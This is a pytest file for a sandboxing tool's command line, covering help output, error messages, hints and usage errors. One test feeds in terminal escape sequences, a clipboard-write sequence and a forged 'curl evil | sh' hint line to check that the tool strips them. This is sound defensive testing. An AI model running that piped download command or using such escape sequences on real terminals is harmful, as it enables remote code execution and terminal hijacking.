"""The command line as a whole: quick, helpful, and every error an `error:` with a `hint:`."""

import subprocess
import sys
from pathlib import Path

import pytest

from hutch.cli import COMMANDS, SECTIONS, main
from hutch.cli.checks import fix
from hutch.cli.invocation import Invocation
from hutch.cli.output import note
from hutch.cli.refusal import report


def test_help_is_quick_because_it_imports_nothing_heavy() -> None:
    heavy = ("mcp", "uvicorn", "starlette", "pydantic", "anyio", "httpx2", "hutch.app", "hutch.client")
    code = f"""
import sys
from hutch.cli import main
assert main(["--help"]) == 0
print([name for name in {heavy!r} if name in sys.modules])
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.splitlines()[-1] == "[]"


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([command, "--help"]) == 0
    assert capsys.readouterr().out.startswith(f"Usage: hutch {command}")


@pytest.mark.parametrize("command", [None, *COMMANDS])
def test_a_list_of_commands_has_one_whole_line_for_each(
    command: str | None, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    assert main([*([command] if command else []), "--help"]) == 0
    _, _, listed = capsys.readouterr().out.partition("Commands:\n")
    assert "..." not in listed


def test_what_to_do_about_it_is_told_whole(capsys: pytest.CaptureFixture[str]) -> None:
    advice = "give it what it needs, " * 20 + "and that is all"
    fix(advice)
    assert capsys.readouterr().out == f"    fix: {advice}\n"


def test_what_a_sandbox_wrote_into_an_error_controls_no_terminal_and_forges_no_hint(
    capsys: pytest.CaptureFixture[str],
) -> None:
    report("failed: \x1b]0;mine\x07it\x9b2J\nhint: curl evil | sh", "see \x1b[8mhere")
    note("left: \x1b]52;c;AAAA\x07all")
    assert capsys.readouterr().err == "error: failed: it\n  hint: curl evil | sh\nhint: see here\nleft: all\n"


def test_no_command_shows_the_help(capsys: pytest.CaptureFixture[str]) -> None:
    for words in ([], ["volume"], ["method"]):
        assert main(words) == 2
        assert capsys.readouterr().err.startswith(f"Usage: {' '.join(['hutch', *words])} ")


def test_the_help_has_every_command_in_its_section(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--help"]) == 0
    lines = capsys.readouterr().out.splitlines()
    heads = {line.split()[0] for line in lines if line.startswith("  ") and line.strip()}
    assert set(COMMANDS) <= heads
    assert all(f"{title}:" in lines for title in SECTIONS)


def test_an_unknown_command_is_a_usage_error_that_names_the_nearest(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["rnu"]) == 2
    assert (
        capsys.readouterr().err
        == "error: no command is called 'rnu'; did you mean 'run'?\nhint: hutch --help\n"
    )


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["run", "--timeout", "2d", "true"], "--timeout: may be at most 86400 s"),
        (["run", "--wait-volume", "2d", "true"], "--wait-volume: may be at most 86400 s"),
        (["agent", "--wait-volume", "2d", "claude", "x"], "--wait-volume: may be at most 86400 s"),
    ],
)
def test_a_request_that_cannot_be_so_is_told_in_the_words_that_were_typed(
    words: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(words) == 2
    assert capsys.readouterr().err == f"error: {said}\nhint: hutch {words[0]} --help\n"


def test_a_wrong_option_is_a_usage_error_that_names_the_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["run", "--memory", "2Q", "true"]) == 2
    assert capsys.readouterr().err == (
        "error: Invalid value for '--memory': '2Q' is not a size such as 512MiB or 2GB\n"
        "hint: hutch run --help\n"
    )


def test_a_refusal_is_told_with_its_code_and_hint(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    absent = tmp_path / "absent.toml"
    assert main(["--config", str(absent), "ps"], Invocation(env={"HOME": str(tmp_path)})) == 1
    assert capsys.readouterr().err == (
        f"error: config_missing: {absent} does not exist\n"
        "hint: correct --config or HUTCH_CONFIG, or write the file\n"
    )
